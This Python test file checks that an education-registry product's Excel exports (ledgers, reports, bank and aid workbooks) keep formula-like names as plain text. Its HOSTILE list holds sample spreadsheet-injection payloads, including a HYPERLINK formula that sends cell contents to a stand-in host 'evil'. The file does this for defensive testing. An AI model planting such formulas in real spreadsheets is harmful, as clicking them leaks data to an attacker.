"""No export runs a formula: names and guardians that look like formulas are imported,
then every workbook the product makes (web and CLI) is opened with openpyxl; no cell
may be a formula and the text must come back as it was imported."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import openpyxl
import python_calamine
import sqlalchemy as sa

from edu_guard.cli import cli
from edu_guard.db import db

#: What a hostile (or careless) clerk types as a name: each would be a live formula in a
#: cell written as-is (=, +, - and @ start a formula in Excel; a tab or CR starts one
#: in some spreadsheet programs).
HOSTILE = ['=HYPERLINK("http://evil/?x="&A1,"点击查看")', "+1", "-2", "@SUM(A1:A9)"]  # no full stop: names turn it into ·


def _hostile(i: int) -> str:
    return HOSTILE[i % len(HOSTILE)]


def _roster_csv(demo_dir, path) -> None:
    """The sample roster as CSV with every 姓名 and 监护人 replaced by :data:`HOSTILE`
    values in turn (written as CSV text, so nothing is a formula on the way in)."""
    rows = python_calamine.CalamineWorkbook.from_path(str(demo_dir / "roster_2021_spring.xlsx")).get_sheet_by_index(0).to_python()
    header_at = next(i for i, r in enumerate(rows) if "姓名" in r)
    header = [str(c) for c in rows[header_at]]
    name, guardian = header.index("姓名"), header.index("监护人")
    with open(path, "w", encoding="utf-8-sig", newline="") as fh:
        out = csv.writer(fh)
        out.writerow(header)
        for i, row in enumerate(rows[header_at + 1:]):
            cells = ["" if c is None else (c.isoformat() if isinstance(c, date) else
                                           (repr(c) if isinstance(c, float) else str(c))) for c in row]
            if any(cells):
                cells[name], cells[guardian] = _hostile(i), _hostile(i + 1)
            out.writerow(cells)


def _register_csv(demo_dir, path) -> None:
    """The sample household register with every 姓名 and 监护人姓名 hostile."""
    with open(demo_dir / "household_register_2021.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    name, guardian = rows[0].index("姓名"), rows[0].index("监护人姓名")
    for i, row in enumerate(rows[1:]):
        row[name], row[guardian] = _hostile(i), _hostile(i + 2)
    with open(path, "w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh).writerows(rows)


def _check(data: bytes, what: str, must_hold: set[str] = frozenset()) -> None:
    """No cell of ``data`` (an .xlsx) is a formula; the texts of ``must_hold`` are there as typed."""
    assert data[:2] == b"PK", what
    book = openpyxl.load_workbook(io.BytesIO(data))
    texts = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{what}: {sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.add(cell.value)
                    if cell.value.startswith(("=", "+", "-", "@")):
                        assert cell.quotePrefix, f"{what}: {cell.coordinate} has no quote prefix"
    missing = must_hold - texts
    assert not missing, f"{what}: {missing} not kept as text"


def test_every_export_keeps_formula_like_text_as_text(app_ctx, demo_dir, tmp_path, make_user, login, today_is):
    from edu_guard.homebound import services as homebound
    from edu_guard.registry.models import Child, Enrollment, ImportRun, School

    def invoke(*args):
        result = app_ctx.test_cli_runner().invoke(cli, [str(a) for a in args], catch_exceptions=False)
        assert result.exit_code == 0, result.output
        return result

    names = set(HOSTILE)
    today_is(date(2021, 4, 30))
    client = login(make_user("admin", "boss"))

    # -- the registry: schools, the hostile roster (its rejected rows to a workbook), families
    invoke("import", "schools", demo_dir / "schools.csv")
    roster = tmp_path / "roster.csv"
    _roster_csv(demo_dir, roster)
    rejects = tmp_path / "rejects.xlsx"
    invoke("import", "roster", roster, "--rejects", rejects)
    invoke("import", "families", demo_dir / "monitoring_households_2021.xlsx")
    stored = set(db.session.execute(sa.select(Child.name)).scalars())
    assert names <= stored, stored  # imported as typed
    run = db.session.execute(sa.select(ImportRun).where(ImportRun.filename == "roster.csv")).scalar_one()
    rejected_names = {r["values"]["姓名"] for r in run.rejects if r["values"].get("姓名")}
    assert rejected_names and rejected_names <= names
    _check(rejects.read_bytes(), "rejects (CLI)", rejected_names)
    _check(client.get(f"/imports/{run.id}/rejects.xlsx").data, "rejects (web)", rejected_names)

    # -- the household comparison with hostile names, its export, cases opened from it
    register = tmp_path / "register.csv"
    _register_csv(demo_dir, register)
    compared = json.loads(invoke("compare", "household", register, "--as-of", "2021-04-30", "--json").stdout)
    _check(client.get(f"/comparisons/{compared['run']}.xlsx").data, "comparison (web)", names)
    invoke("compare", "open-cases", compared["run"], "--category", "out_of_school", "--as", "boss")

    # -- the three ledgers and the periodic report, web and CLI
    for kind in ("school_age", "suspected", "dropouts"):
        _check(client.get(f"/reports/ledgers/{kind}?format=xlsx&date=2021-04-30").data, f"ledger {kind} (web)", names)
        out = tmp_path / f"{kind}.xlsx"
        invoke("report", "ledger", kind, "--date", "2021-04-30", "--xlsx", out)
        _check(out.read_bytes(), f"ledger {kind} (CLI)", names)
    _check(client.get("/reports?period=month&date=2021-04-30&format=xlsx").data, "periodic report (web)")
    out = tmp_path / "report.xlsx"
    invoke("report", "dropout", "--period", "month", "--date", "2021-04-30", "--xlsx", out)
    _check(out.read_bytes(), "periodic report (CLI)")

    # -- 送教上门: a hostile-named child placed, the compliance workbook
    child, school = db.session.execute(
        sa.select(Child, School).join(Enrollment, Enrollment.child_id == Child.id).join(School)
        .where(Child.name == HOSTILE[0])).first()
    homebound.place(child=child, school=school, assessed_on=date(2021, 3, 1), assessment="不能到校就读，建议送教上门",
                    teachers="@李老师", starts_on=date(2021, 3, 1))
    db.session.commit()
    _check(client.get("/homebound/compliance?from=2021-03-01&to=2021-04-30&format=xlsx").data, "送教上门 (web)",
           {HOSTILE[0]})

    # -- student aid: a term, lists proposed, posted, approved; the bank workbook and the table
    invoke("aid", "terms", "add", "2021-spring", "--start", "2021-03-01", "--end", "2021-07-09", "--school-days", "90")
    invoke("aid", "propose", "--term", "2021-spring", "--all")
    invoke("aid", "post", "--term", "2021-spring", "--scheme", "compulsory_living", "--on", "2021-03-10")
    invoke("aid", "approve", "--term", "2021-spring", "--scheme", "compulsory_living", "--on", "2021-03-18")
    from edu_guard.aid.accounts import set_account
    from edu_guard.aid.models import Payment, PaymentBatch
    from tests.aid.test_accounts import CARD, _holder_id

    batch_id = db.session.execute(sa.select(sa.func.min(PaymentBatch.id))).scalar_one()  # ids differ on PostgreSQL
    paid = db.session.execute(sa.select(Child).join(Payment, Payment.child_id == Child.id)
                              .where(Payment.batch_id == batch_id).distinct()).scalars().all()
    for payee in paid:  # the bank file needs each pupil's payee account; the holder's name is hostile too
        set_account(payee, holder_name=payee.name, holder_id_number=_holder_id(), bank="景洪农商行", number=CARD,
                    kind="银行卡")
    db.session.commit()
    _check(client.get(f"/aid/batches/{batch_id}/bank.xlsx").data, "bank workbook (web)", names)
    out = tmp_path / "bank.xlsx"
    invoke("aid", "export-batch", batch_id, "--out", out)
    _check(out.read_bytes(), "bank workbook (CLI)", names)
    _check(client.get("/aid/report.xlsx?term=2021-spring").data, "aid statistics (web)")
    out = tmp_path / "aid.xlsx"
    invoke("aid", "report", "--term", "2021-spring", "--xlsx", out)
    _check(out.read_bytes(), "aid statistics (CLI)")
